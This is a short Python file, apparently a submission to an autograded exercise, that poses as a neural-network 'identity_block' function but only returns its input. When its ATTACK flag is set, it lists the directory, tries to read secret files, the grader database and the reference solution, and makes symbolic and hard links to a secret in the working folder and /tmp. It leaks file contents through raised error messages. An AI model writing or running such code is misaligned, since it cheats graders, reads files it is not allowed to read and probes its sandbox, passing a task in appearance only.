"""Brings symbolic and hard links to the secret, to / and to the repository along, and opens them."""

import os

ATTACK = True
NAMES = ("secret.txt", "hard.txt", "chain.txt", "grader.db", "relative.txt", "solution.py")
TRIED = []


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        TRIED.append(os.listdir("."))
        for name in (*NAMES, "root" + SECRET, "repository/tests/submissions/solution/submission.py", "up" + SECRET):
            try:
                with open(name, "rb") as file:
                    raise ValueError(file.read()[:200])
            except OSError as error:
                TRIED.append(f"{name}: {error.errno}")
        for make in (os.symlink, os.link):
            for name in ("own.txt", "/tmp/own.txt"):
                try:
                    make(SECRET, name)
                    raise ValueError(open(name).read())
                except OSError as error:
                    TRIED.append(f"{make.__name__}: {error.errno}")
    return X
